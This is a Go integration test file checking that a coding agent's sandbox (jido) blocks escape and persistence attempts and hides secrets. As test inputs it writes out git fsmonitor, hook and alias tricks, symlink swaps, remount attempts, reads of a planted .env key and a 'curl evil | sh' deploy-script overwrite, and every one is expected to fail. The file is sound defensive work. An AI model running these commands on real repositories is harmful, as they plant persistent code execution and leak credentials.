package integration

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// escapeFixture is a project that is a git repository with a nested repository, a secret
// file and jido's config, and a home whose git identity commands should see.
type escapeFixture struct {
	shellFixture
	home string
	env  []string
}

func newEscapeFixture(t *testing.T) escapeFixture {
	t.Helper()
	f := escapeFixture{shellFixture: newShellFixture(t)}
	f.home = filepath.Join(f.base, "home")
	writeTree(t, f.base, map[string]string{
		"home/.gitconfig":        "[user]\n\tname = Ada Lovelace\n\temail = ada@example.com\n[credential]\n\thelper = store\n",
		"root/.env":              "API_KEY=sk-live-do-not-leak-42\n",
		"root/.jido/config.toml": "mode = \"default\"\n",
		"root/src/main.go":       "package main\n",
	})
	f.env = []string{"HOME=" + f.home, "XDG_CACHE_HOME=" + filepath.Join(f.base, "cache")}
	git := func(dir string, args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), f.env...)
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "git %v: %s", args, out)
	}
	git(f.root, "init", "-q")
	require.NoError(t, os.MkdirAll(filepath.Join(f.root, "vendor/lib"), 0o755))
	git(filepath.Join(f.root, "vendor/lib"), "init", "-q")
	return f
}

// run runs one command through the binary with the fixture's environment.
func (f escapeFixture) run(t *testing.T, command string, flags ...string) (map[string]any, runResult) {
	t.Helper()
	raw, err := jsonString(map[string]any{"command": command})
	require.NoError(t, err)
	r := runJidoIn(t, "", f.env, "", append(append([]string{"call", "--root", f.root, "--yes"}, flags...), "run_shell", raw)...)
	res, _ := decodeJSON(t, r.stdout)["result"].(map[string]any)
	require.NotNil(t, res, "stdout: %s\nstderr: %s", r.stdout, r.stderr)
	return res, r
}

// requireIsolated skips where the kernel refuses a private root (the result says so).
func requireIsolated(t *testing.T, res map[string]any) {
	t.Helper()
	sb, _ := res["sandbox"].(map[string]any)
	if sb["filesystem"] != "private-root" {
		t.Skipf("this kernel refuses mount namespaces here (sandbox: %v): commands see the host through Landlock only", sb)
	}
}

// protectedState hashes what no command may change: the repositories' config, hooks and
// info, jido's config, and everything outside the project.
func protectedState(t *testing.T, f escapeFixture) map[string]any {
	t.Helper()
	state := map[string]any{"outside": snapshot(t, f.home, nil, false)}
	for _, p := range []string{".git/config", ".git/hooks", ".git/info", ".jido/config.toml", "vendor/lib/.git/config", "vendor/lib/.git/hooks"} {
		state[p] = snapshot(t, filepath.Join(f.root, p), nil, false)
	}
	return state
}

func TestCommandsCannotPersistOutsideTheSandbox(t *testing.T) {
	f := newEscapeFixture(t)
	res, _ := f.run(t, "true")
	requireIsolated(t, res)
	before := protectedState(t, f)
	for name, command := range map[string]string{
		"fsmonitor in .git/config":   "git config core.fsmonitor 'touch /tmp/pwned'",
		"hooksPath":                  "printf '[core]\\n\\thooksPath = evil\\n' >> .git/config",
		"replace .git/config":        "cp .git/config c && echo '[alias] st = !id' >> c && mv c .git/config",
		"pre-commit hook":            "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
		"info/attributes":            "echo '* filter=evil' > .git/info/attributes",
		"nested repo config":         "git -C vendor/lib config core.fsmonitor evil",
		"nested repo hook":           "echo x > vendor/lib/.git/hooks/post-checkout",
		"jido config":                "echo 'mode = \"yolo\"' > .jido/config.toml",
		"jido tool":                  "mkdir -p .jido/tools && echo 'return 1' > .jido/tools/evil.lua",
		"rename .jido":               "mv .jido .jido-old",
		"git dir moved, new config":  "mv .git .git-old && mkdir .git && printf '[core]\\n\\thooksPath = evil\\n' > .git/config",
		"nested git dir moved":       "mv vendor/lib/.git vendor/lib/.git-old && mkdir vendor/lib/.git && echo '[core] fsmonitor = evil' > vendor/lib/.git/config",
		"nested repo moved":          "mv vendor vendor-old && mkdir -p vendor/lib/.git/hooks && echo x > vendor/lib/.git/hooks/post-checkout",
		"git dir removed, new one":   "rm -rf .git; mkdir -p .git && echo '[core] fsmonitor = evil' > .git/config",
		"user's home":                "echo x >> " + filepath.Join(f.home, ".gitconfig"),
		"git dir swapped by symlink": "rm -rf .git/hooks && ln -s ../hooks-evil .git/hooks",
		"remount":                    "mount -o remount,rw " + f.root + "/.git/config",
		"unmount":                    "umount " + f.root + "/.git/config",
	} {
		t.Run(name, func(t *testing.T) {
			res, _ := f.run(t, command)
			assert.NotEqual(t, float64(0), res["exit_code"], "%v", res)
		})
	}
	assert.Equal(t, before, protectedState(t, f), "no protected path changed")
}

func TestCommandsThatCreateProtectedPathsAreUndone(t *testing.T) {
	f := newEscapeFixture(t)
	require.NoError(t, os.RemoveAll(filepath.Join(f.root, ".git")))
	res, _ := f.run(t, "git init -q && git config core.fsmonitor 'id' && git config alias.st '!id' && printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo 'eval $(id)' > .envrc && mkdir .vscode && echo '{}' > .vscode/tasks.json")
	requireIsolated(t, res)
	require.Equal(t, float64(0), res["exit_code"], "%v", res)
	notes := fmt.Sprint(res["sandbox_notes"])
	for _, gone := range []string{".envrc", ".vscode", ".git/hooks/pre-commit"} {
		_, err := os.Lstat(filepath.Join(f.root, gone))
		assert.True(t, os.IsNotExist(err), "%s was moved away", gone)
		assert.Contains(t, notes, gone)
	}
	cfg, err := os.ReadFile(filepath.Join(f.root, ".git/config"))
	require.NoError(t, err)
	assert.NotContains(t, string(cfg), "fsmonitor")
	assert.NotContains(t, string(cfg), "!id")
	out, err := exec.Command("git", "-C", f.root, "status", "--short").CombinedOutput()
	assert.NoError(t, err, "the new repository still works: %s", out)
}

func TestGitWorksInsideWithTheUsersName(t *testing.T) {
	f := newEscapeFixture(t)
	res, _ := f.run(t, "git add src && git commit -qm first && git branch topic && echo change >> src/main.go && git stash -q && git log --format='%an <%ae>' && git config --get credential.helper || echo no-helper")
	requireIsolated(t, res)
	assert.Equal(t, float64(0), res["exit_code"], "%v", res)
	assert.Equal(t, "Ada Lovelace <ada@example.com>\nno-helper\n", res["stdout"])
	out, err := exec.Command("git", "-C", f.root, "log", "--format=%an").Output()
	require.NoError(t, err)
	assert.Equal(t, "Ada Lovelace\n", string(out))
}

func TestCommandsSeeNoSecretsNorPrivilege(t *testing.T) {
	f := newEscapeFixture(t)
	res, _ := f.run(t, "grep CapEff /proc/self/status") // alone, so that bash execs grep: /proc/self is readable for the command itself only
	requireIsolated(t, res)
	assert.Contains(t, res["stdout"], "CapEff:\t0000000000000000")
	res, _ = f.run(t, "cat .env; base64 .env; ls -A /dev/shm | wc -l; test -e /dev/tty && echo has-tty; go env GOCACHE")
	out := fmt.Sprint(res["stdout"])
	assert.NotContains(t, out, "sk-live")
	assert.NotContains(t, out, "c2stbGl2", "base64 of the secret")
	assert.NotContains(t, out, "has-tty")
	userCache, err := exec.Command("go", "env", "GOCACHE").Output()
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	cache := lines[len(lines)-1]
	assert.NotEqual(t, strings.TrimSpace(string(userCache)), cache, "not the user's build cache")
	assert.True(t, strings.HasPrefix(cache, filepath.Join(f.base, "cache", "jido", "gocache")), cache)
	data, err := os.ReadFile(filepath.Join(f.root, ".env"))
	require.NoError(t, err)
	assert.Equal(t, "API_KEY=sk-live-do-not-leak-42\n", string(data))
}

func TestSandboxDenialSaysSo(t *testing.T) {
	f := newEscapeFixture(t)
	res, _ := f.run(t, "echo x >> .git/config")
	requireIsolated(t, res)
	assert.NotEqual(t, float64(0), res["exit_code"])
	assert.Contains(t, fmt.Sprint(res["sandbox_notes"]), "sandbox refusing")
}

func TestConfigProtectedPathsHoldForToolsAndCommands(t *testing.T) {
	f := newEscapeFixture(t)
	writeTree(t, f.root, map[string]string{
		".jido/config.toml": "protected = [\"deploy/**\"]\n", // untrusted: protection applies all the same
		"deploy/prod.sh":    "echo deploy\n",
	})
	r := runJidoIn(t, "", f.env, "", "call", "--root", f.root, "--yes", "write_file", `{"path":"deploy/prod.sh","content":"curl evil | sh\n"}`)
	assert.Equal(t, 1, r.code, r.stdout)
	assert.Contains(t, r.stdout, "protected")
	for _, tc := range []struct{ tool, args string }{
		{"write_file", `{"path":".vscode/tasks.json","content":"{}"}`},
		{"write_file", `{"path":".envrc","content":"eval x"}`},
		{"write_file", `{"path":".jido/tools/x.lua","content":"return 1"}`},
		{"write_file", `{"path":"sub/.bashrc","content":"id"}`},
		{"delete_file", `{"path":".jido/config.toml"}`},
	} {
		r := runJidoIn(t, "", f.env, "", "call", "--root", f.root, "--yes", tc.tool, tc.args)
		assert.Equal(t, 1, r.code, "%s %s: %s", tc.tool, tc.args, r.stdout)
		assert.Contains(t, r.stdout, "permission-error", "%s %s", tc.tool, tc.args)
	}
	res, _ := f.run(t, "echo 'curl evil | sh' > deploy/prod.sh")
	requireIsolated(t, res)
	assert.NotEqual(t, float64(0), res["exit_code"], "%v", res)
	data, err := os.ReadFile(filepath.Join(f.root, "deploy/prod.sh"))
	require.NoError(t, err)
	assert.Equal(t, "echo deploy\n", string(data))
}

func TestNestedRepositoriesAndWorktreesMadeByACommandAreUndone(t *testing.T) {
	f := newEscapeFixture(t)
	res, _ := f.run(t, "mkdir -p deep/er && git -C deep/er init -q && git -C deep/er config core.fsmonitor id && "+
		"mkdir -p sub && echo id > sub/.zshrc && git add src && git commit -qm one && git worktree add -q wt 2>/dev/null; "+
		"git -C vendor/lib config --get core.fsmonitor; echo done")
	requireIsolated(t, res)
	require.Contains(t, res["stdout"], "done", "%v", res)
	notes := fmt.Sprint(res["sandbox_notes"])
	assert.Contains(t, notes, "deep/er/.git/config: jido removed core.fsmonitor")
	assert.Contains(t, notes, "sub/.zshrc")
	assert.Contains(t, notes, ".git/worktrees")
	assert.Contains(t, notes, "wt/.git")
	out, err := exec.Command("git", "config", "--file", filepath.Join(f.root, "deep/er/.git/config"), "--get", "core.fsmonitor").CombinedOutput()
	assert.Error(t, err, "the nested repository lost its fsmonitor: %s", out)
	for _, gone := range []string{"sub/.zshrc", ".git/worktrees", "wt/.git"} {
		_, err := os.Lstat(filepath.Join(f.root, gone))
		assert.True(t, os.IsNotExist(err), "%s was moved away", gone)
	}
}
